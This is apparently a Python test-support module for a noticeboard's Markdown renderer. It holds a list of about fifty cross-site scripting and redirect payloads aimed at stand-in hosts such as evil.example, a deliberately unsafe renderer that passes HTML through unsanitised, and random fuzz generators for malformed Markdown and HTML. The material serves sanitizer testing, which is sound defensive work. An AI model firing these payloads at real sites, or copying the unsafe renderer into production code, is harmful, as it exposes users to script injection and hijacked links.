"""Markdown and HTML as nobody should write them: what attackers are known to try, and what chance puts together."""

from __future__ import annotations

import random
import re
from collections.abc import Iterator

import comrak

from noticeboard.markup import rendered

# --- What attackers are known to try ----------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)" style="position:fixed">x</a>',
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<details open ontoggle=alert(1)>x</details>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](<//evil.example/ a>)",
    "[x](http://evil.example/)",
    "[x](ftp://evil.example/)",
    "[x](evil.html)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    '![x"onerror="alert(1)](/x.png)',
    '[x](/x "t" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "```\"><script>alert(1)</script>\nx\n```",
    "\x00<scr\x00ipt>alert(1)</script>",
    "[x](https://ok.example/?a&lt=1&copy;=2)",
    '[x](/?"onmouseover=alert`1`//)',
    "![`\"><svg onload=alert(1)>`](/x.png)",
    "| <img src=x onerror=alert(1)> |\n|-|\n| `</td><script>alert(1)</script>` |",
    "```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "\u2028<script>alert(1)</script>\ufeff<\u200bscript>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "<a href=x><a href=javascript:alert(1)>",
    "<table><tr><p><svg><style><img src=x onerror=alert(1)></style></svg></p></tr></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]  # fmt: skip


def unguarded(text: str) -> str:
    """The broken variant: HTML in Markdown is let through, and nothing cleans it."""
    render = comrak.RenderOptions()
    render.unsafe_ = True
    return comrak.render_markdown(text, render_options=render)


# --- What chance puts together --------------------------------------------------------------------------------------

LINE_STARTS = [
    *("", "", "", "# ", "### ", "- ", "  - ", "1. ", "03) ", "> ", "> - ", "    ", "\t", "|a|b|\n|-|:-:|\n|", "|", "|-|"),
    *("```", "```py", "***", "[r]: /x", "[r]: javascript:a", "<div>", "<!--", "- [ ] ", "==="),
]  # fmt: skip
"""What a line of Markdown may begin with."""

PIECES = [
    *("x", "甲", "乙。", "**", "*", "_", "~~", "`", "[t](/a)", "[t](https://a.org/?a=1&b=2)", "[t](<//e>)", "[t](/a 'q')"),
    *("[t](mailto:a@b.cn)", "[t](#n)", "[t](/a:b)", "[t](https://[::1]/)", "[t](https://é.cn)", "[t](/路?“a”)", "[t](http://e)"),
    *("[t](/%zz&copy;)", "[t](/a&copy=1&amp;lt=2)", "[t](/?&lt=1)", "[t](/?&=1)", "![a&b](/i.png)", "![*a* 'b'](/i)", "[r]"),
    *("[a [b](/c) d](/e)", "[![i](/i)](/l)", "<https://a.org>", "<a@b.cn>", "<b>", "</p>", "&amp;", "&lt", "&#0;", "&nbsp;"),
    *("\\", "\\<", "  ", "\t", '"', "'", "<", ">", "&", "|", "\0", "\x01", "\x0b", "\x0c", "\r", "\x7f", "\x85", "\xa0"),
    *("\xad", "\u200b", "\u2028", "\ufeff", "\ufffe", "\ufffd", "\u202e", "\U0001f600", "\U00020000", "é", "(", "]", "="),
]  # fmt: skip
"""What Markdown, and what should not be in it, is put together from."""

STRAY = [
    *("<p>", "</p>", "</li>", "<em>", "</em>", "<code>", "</table>", "</ul>", "<pre><code>", "</code></pre>", '<a href="/">'),
    *("<br />", "<br>", "<hr />", "<p >", "<P>", "<script>", "<svg>", "<!--", "-->", "<p", "<", ">", '"', "x", "\n", "\0", "\r"),
    *("\x0c", "\x1f", "\x85", "&", "&amp;", "&lt", "&quot;", "&nbsp;", "&foo;", "&#60;", "&#0;", "&amp;lt;", "<td></td>"),
    *("<p>x</p>", "<li>x</li>", "<h1>x</h1>", "<h3>x</h3>", "<em>x</em>", "<table>x</table>", "<tr>x</tr>", "<ul>x</ul>"),
    *("<u>x</u>", "<p><em>x</p></em>", "<pre>\n<code>x</code></pre>", '<p class="x">x</p>', "<tr><td>x</td></tr>", "<div>x</div>"),
    *('<ol type="a"></ol>', '<ol start="x"></ol>', '<p><a href="//e.org">x</a></p>', '<p><a href="javascript:a">x</a></p>'),
    *('<p><a href="/a b">x</a></p>', '<p><a href="/&amp;lt;">x</a></p>', '<p><a href="#">x</a></p>', '<td align="left">x</td>'),
    *('<p><a href="https://[x/">x</a></p>', '<p><a title="t" href="/">x</a></p>', '<p><a href="/?a=1&copy=2">x</a></p>'),
    *('<p><a href="/">x<em><a href="/">y</a></em></a></p>', "<p><em>x<strong><em>y</em></strong></em></p>"),
    *('<p><img src="/" alt="&amp;lt;" /></p>', '<p><img src="/" alt="<" /></p>', '<p><img src="https://e.org/" alt="" /></p>'),
]  # fmt: skip
"""What HTML is spoilt with, or only nearly."""


def muddled_html(seed: int, count: int) -> Iterator[str]:
    """Yield HTML of chance Markdown, half of it with a piece lost, doubled, moved or put in; the same for a seed."""
    chance = random.Random(seed)
    for _ in range(count):
        lines = (_line(chance) for _ in range(chance.choice((1, 1, 2, 4))))
        pieces = re.findall(r"<[^>]*>|[^<]+", rendered("\n".join(lines)))
        if chance.random() < 0.5:
            _spoil(pieces, chance)
        yield "".join(pieces)


def _line(chance: random.Random) -> str:
    return chance.choice(LINE_STARTS) + "".join(chance.choices(PIECES[:32], k=chance.choice((0, 1, 1, 2, 3))))


def _spoil(pieces: list[str], chance: random.Random) -> None:
    here, there = (chance.randrange(len(pieces) + 1) for _ in range(2))
    match chance.randrange(5):
        case 0:
            del pieces[here : here + 1]
        case 1:
            pieces[here:here] = pieces[there : there + 1]
        case 2:
            pieces[here:here] = [pieces.pop(there)] if there < len(pieces) else []
        case _:
            pieces.insert(here, chance.choice(STRAY))
